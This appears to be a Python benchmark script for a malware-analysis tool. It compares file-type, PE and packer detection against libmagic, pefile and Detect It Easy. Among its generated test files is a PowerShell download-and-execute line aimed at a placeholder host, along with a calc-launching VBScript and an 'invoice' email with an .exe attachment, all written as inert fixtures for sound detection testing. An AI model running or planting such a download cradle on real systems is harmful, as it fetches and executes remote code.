#!/usr/bin/env python3
"""Side by side, in one run, on one corpus of real files found on this machine plus generated
ones: identify_file against libmagic (`file -b`), pe_info against pefile, detect_packer against
Detect It Easy (die-python). Prints the tables (Markdown) that bench/analysis_identify.md holds.

Usage: eval "$(scripts/peers.sh)"; python3 bench/analysis_peers.py [--max-per-dir N]
Needs: target/…/examples/corpus_report (cargo build -p maljan-analysis --example corpus_report),
MALJAN_PY (the peers venv with pefile and die-python).
"""
import base64, binascii, bz2, collections, email.message, gzip, io, json, lzma, os, re, struct
import subprocess, sys, tarfile, tempfile, zipfile

TARGET = os.environ.get("CARGO_TARGET_DIR", "target")
REPORT = os.path.join(TARGET, "debug", "examples", "corpus_report")
PY = os.environ.get("MALJAN_PY", sys.executable)
MAX_PER_DIR = int(sys.argv[sys.argv.index("--max-per-dir") + 1]) if "--max-per-dir" in sys.argv else 40

ROOTS = ["/usr/bin", "/usr/sbin", "/usr/lib/x86_64-linux-gnu", "/usr/share/doc", "/usr/share/perl5", "/etc"]


def real_files():
    out = []
    for root in ROOTS:
        for d, dirs, files in os.walk(root):
            dirs.sort()
            n = 0
            for f in sorted(files):
                p = os.path.join(d, f)
                if os.path.islink(p) or not os.path.isfile(p):
                    continue
                try:
                    if os.path.getsize(p) > 32 << 20:
                        continue
                except OSError:
                    continue
                out.append(p)
                n += 1
                if n >= MAX_PER_DIR:
                    break
    # Every PE on the machine (pefile parity wants them all).
    for root in [os.path.expanduser("~/.cache/maljan-peers/venv/lib"), os.path.expanduser("~/.pyenv/versions")]:
        for d, dirs, files in os.walk(root):
            if "/proc" in d or "/tmp" in d:
                continue
            for f in files:
                if f.lower().endswith((".exe", ".dll", ".efi", ".sys", ".pyd")):
                    p = os.path.join(d, f)
                    if os.path.isfile(p) and not os.path.islink(p):
                        out.append(p)
    return sorted(set(out))


def generated(dirname):
    """The formats the machine holds no real file of, written by the standard library."""
    w = lambda name, data: open(os.path.join(dirname, name), "wb").write(data)
    payload = open("/bin/ls", "rb").read()[:4096]
    w("a.gz", gzip.compress(payload)); w("a.bz2", bz2.compress(payload)); w("a.xz", lzma.compress(payload))
    w("a.lzma", lzma.compress(payload, format=lzma.FORMAT_ALONE))
    z = io.BytesIO(); zipfile.ZipFile(z, "w").writestr("x.exe", payload); w("a.zip", z.getvalue())
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as tf:
        i = tarfile.TarInfo("x.bin"); i.size = len(payload); tf.addfile(i, io.BytesIO(payload))
    w("a.tar", t.getvalue())
    hdr = lambda magic: (magic + b"".join(b"%08X" % v for v in [1, 0o100644, 0, 0, 1, 0, 4, 0, 0, 0, 0, 6, 0])
                         + b"a.txt\0" + b"\0" * 0 + b"\0\0" + b"abcd")
    w("newc.cpio", hdr(b"070701") + b"0" * 200); w("crc.cpio", hdr(b"070702") + b"0" * 200)
    odc = b"070707" + b"000001" + b"000001" + b"100644" + b"000000" + b"000000" + b"000001" + b"000000" + b"00000000000" + b"000006" + b"00000000004" + b"a.txt\0abcd"
    w("odc.cpio", odc + b"0" * 200)
    binle = struct.pack("<13H", 0o70707, 1, 1, 0o100644, 0, 0, 1, 0, 0, 0, 6, 0, 4) + b"a.txt\0abcd"
    w("bin.cpio", binle + b"\0" * 200)
    w("a.arj", b"\x60\xea" + struct.pack("<H", 0x22) + bytes([0x1e, 11, 1, 2, 0x10, 0, 2]) + b"\0" * 0x60)
    w("a.szdd", b"SZDD\x88\xf0\x27\x33A\0" + struct.pack("<I", 100) + b"\xff" + b"x" * 100)
    iso = bytearray(0x9000); iso[0x8000] = 1; iso[0x8001:0x8006] = b"CD001"; iso[0x8006] = 1; w("a.iso", bytes(iso))
    m = email.message.EmailMessage(); m["From"] = "a@example.com"; m["To"] = "b@example.org"; m["Subject"] = "invoice"
    m.set_content("see attached"); m.add_attachment(payload, maintype="application", subtype="octet-stream", filename="x.exe")
    w("a.eml", b"Received: from mx.example.com\n" + bytes(m))
    w("a.mbox", b"From a@example.com Mon Jan  1 00:00:00 2024\n" + bytes(m))
    w("a.uu", b"begin 644 x.exe\n" + b"".join(binascii.b2a_uu(payload[i:i + 45]) for i in range(0, 450, 45)) + b"`\nend\n")
    w("a.hqx", b"(This file must be converted with BinHex 4.0)\n:" + base64.b64encode(payload[:300]) + b":\n")
    w("a.b64", base64.encodebytes(payload))
    w("a.hex", binascii.hexlify(payload[:512]) + b"\n")
    w("a.tnef", b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00" + b"\0" * 100)
    w("a.ps1", b"$env:TEMP; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x.example/a')\n")
    w("a.vbs", b"Dim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\n")
    w("a.bat", b"@echo off\nsetlocal\nset /a n=1\ngoto end\n:end\n")
    w("a.au3", b"#include <MsgBoxConstants.au3>\n#NoTrayIcon\nFunc Main()\nEndFunc\n")
    w("a.hta", b"<html><head><hta:application id=x></head><body><script>x=1</script></body></html>\n")
    w("a.html", b"<!DOCTYPE html>\n<html><body><p>hi</p></body></html>\n")
    w("a.rtf", b"{\\rtf1\\ansi hello}\n")
    w("a.sqsh", b"hsqs" + b"\0" * 200)
    w("a.lz", b"LZIP\x01\x0c" + b"\0" * 60)


def file_family(desc):
    d = desc
    rules = [
        (r"^PE32\+? ", "pe"), (r"^ELF ", "elf"), (r"Mach-O", "macho"), (r"^MS-DOS executable", "dos"),
        (r"compiled Java class", "java_class"), (r"Dalvik dex", "dex"), (r"MS Windows shortcut", "lnk"),
        (r"Composite Document File|CDFV2", "ole2"), (r"Microsoft (Word|Excel|PowerPoint) 2007\+|Microsoft OOXML", "ooxml"),
        (r"OpenDocument|EPUB", "odf"), (r"Rich Text Format", "rtf"), (r"^PDF document", "pdf"),
        (r"HtmlHelp", "chm"), (r"^Java archive", "jar"), (r"^Android package", "apk"), (r"^Zip archive", "zip"),
        (r"^7-zip", "7z"), (r"^RAR archive", "rar"), (r"Microsoft Cabinet", "cab"), (r"tar archive", "tar"),
        (r"^gzip compressed", "gzip"), (r"^bzip2 compressed", "bzip2"), (r"^XZ compressed", "xz"),
        (r"^LZMA compressed", "lzma"), (r"^lzip compressed", "lzip"), (r"^Zstandard", "zstd"),
        (r"cpio archive", "cpio"), (r"^ARJ archive", "arj"), (r"ISO 9660", "iso9660"), (r"SZDD", "szdd"),
        (r"KWAJ", "kwaj"), (r"Squashfs", "squashfs"), (r"current ar archive|Debian binary package", "ar"),
        (r"^(SMTP mail|RFC 822 mail|news or mail|MIME entity)", "email"), (r"mailbox", "mbox"),
        (r"Transport Neutral Encapsulation", "tnef"), (r"uuencoded", "uuencode"), (r"BinHex", "binhex"),
        (r"HTML document", "html"), (r"^XML|^SVG", "xml"),
        (r"Python script", "script:Python"), (r"(POSIX shell|Bourne-Again shell|Paul Falstad's zsh|a /usr/bin/env sh) script", "script:Shell"),
        (r"Perl script", "script:Perl"), (r"DOS batch", "script:Batch"), (r"Node\.js|JavaScript", "script:JavaScript"),
        (r"Ruby script", "script:Ruby"),
        (r"^empty$", "empty"), (r"^data$", "data"),
        (r"(ASCII|UTF-8|Unicode|ISO-8859).*text|^JSON|^CSV", "text"),
    ]
    for pat, fam in rules:
        if re.search(pat, d):
            return fam
    return "other:" + d.split(",")[0][:40]


def our_family(r):
    k = r["kind"]
    if k == "script":
        return "script:" + r["details"].get("language", "?")
    return {"ooxml": "ooxml", "odf": "odf", "java_class": "java_class"}.get(k, k)


# Families libmagic folds into others (a text-format distinction it does not make).
EQUIV = {("text", "hex"), ("text", "base64"), ("text", "script:PowerShell"), ("text", "script:VBScript"),
         ("text", "script:Batch"), ("text", "script:AutoIt"), ("html", "script:HTA"), ("text", "script:JScript"),
         ("text", "script:JavaScript"), ("zip", "jar"), ("jar", "zip")}


def main():
    tmp = tempfile.mkdtemp(prefix="maljan-peers-bench-")
    gen = os.path.join(tmp, "generated"); os.makedirs(gen)
    generated(gen)
    built = os.path.join(tmp, "built"); subprocess.run([REPORT, "write", built], check=True)
    files = real_files() + [os.path.join(gen, f) for f in sorted(os.listdir(gen))] + [os.path.join(built, f) for f in sorted(os.listdir(built))]
    ours = {}
    p = subprocess.run([REPORT], input="\n".join(files) + "\n", capture_output=True, text=True, check=True)
    for line in p.stdout.splitlines():
        r = json.loads(line); ours[r["path"]] = r
    libmagic = subprocess.run(["file", "--version"], capture_output=True, text=True).stdout.splitlines()[0]
    by_fam = collections.defaultdict(lambda: [0, 0, collections.Counter()])
    for f in files:
        if f not in ours:
            continue
        fd = subprocess.run(["file", "-b", f], capture_output=True, text=True).stdout.strip()
        ff = file_family(fd); of = our_family(ours[f])
        agree = ff == of or (ff, of) in EQUIV
        fam = ff if not ff.startswith("other:") else "other (images, fonts, …)"
        e = by_fam[fam]; e[0] += 1; e[1] += agree
        if not agree:
            e[2][of] += 1
    print(f"## identify_file vs libmagic ({libmagic}), {sum(v[0] for v in by_fam.values())} files\n")
    print("| family (libmagic's) | files | agree | % | what we said instead (top) |\n|---|---:|---:|---:|---|")
    tot = [0, 0]
    for fam in sorted(by_fam, key=lambda k: -by_fam[k][0]):
        n, a, c = by_fam[fam]; tot[0] += n; tot[1] += a if not fam.startswith("other") else 0
        print(f"| {fam} | {n} | {a} | {100 * a / n:.0f} | {', '.join(f'{k}×{v}' for k, v in c.most_common(3))} |")
    covered = sum(v[0] for k, v in by_fam.items() if not k.startswith("other"))
    print(f"\nAgreement on the families the issue names (all but 'other'): {tot[1]}/{covered} = {100 * tot[1] / max(covered, 1):.1f}%\n")

    pes = [f for f in files if f in ours and ours[f]["pe"] is not None]
    script = r'''
import sys, json, pefile, die
for p in sys.argv[1:]:
    r = {"path": p}
    try:
        pe = pefile.PE(p); r["pefile"] = True; r["sections"] = len(pe.sections)
        r["imports"] = sum(len(e.imports) for e in getattr(pe, "DIRECTORY_ENTRY_IMPORT", []))
    except Exception as e:
        r["pefile"] = False; r["error"] = str(e)[:80]
    try:
        d = json.loads(die.scan_file(p, die.ScanFlags.RESULT_AS_JSON, str(die.database_path)))
        r["die"] = [v["type"] + ": " + v["name"] for det in d.get("detects", []) for v in det.get("values", []) if v["name"] != "Unknown"]
    except Exception as e:
        r["die"] = ["error " + str(e)[:40]]
    print(json.dumps(r))
'''
    peers = {}
    for i in range(0, len(pes), 50):
        out = subprocess.run([PY, "-c", script] + pes[i:i + 50], capture_output=True, text=True).stdout
        for line in out.splitlines():
            r = json.loads(line); peers[r["path"]] = r
    both = [f for f in pes if peers.get(f, {}).get("pefile")]
    ok = [f for f in both if ours[f]["pe"]["ok"]]
    same_sec = [f for f in ok if len(ours[f]["pe"]["sections"] or []) == peers[f]["sections"]]
    same_imp = [f for f in ok if ours[f]["pe"]["imports"] == peers[f]["imports"]]
    print(f"## pe_info vs pefile, {len(pes)} files starting with MZ\n")
    print("| | files |\n|---|---:|")
    print(f"| pefile parses | {len(both)} |\n| … and pe_info parses | {len(ok)} |\n| … same section count | {len(same_sec)} |\n| … same import count | {len(same_imp)} |")
    print(f"| pe_info parses, pefile does not | {len([f for f in pes if ours[f]['pe']['ok'] and not peers.get(f, {}).get('pefile')])} |")
    missed = [f for f in both if not ours[f]["pe"]["ok"]]
    if missed:
        print("\npefile parses, pe_info does not: " + ", ".join(os.path.basename(f) for f in missed[:10]))
    print(f"\n## detect_packer vs Detect It Easy (die-python), {len(pes)} PE files\n")
    print("| file | Detect It Easy | detect_packer |\n|---|---|---|")
    rows = 0
    for f in pes:
        d = [x for x in peers.get(f, {}).get("die", []) if not x.startswith(("Linker", "Tool", "Sign tool", "Overlay"))]
        m = [f"{t['category']}: {t['name']}" + (f" ({t['version']})" if t.get('version') else "") for t in ours[f]["toolchain"]]
        if built in f or rows < 40:
            print(f"| {os.path.basename(f)} | {'; '.join(d) or '—'} | {'; '.join(m) or '—'} |"); rows += 1


if __name__ == "__main__":
    main()
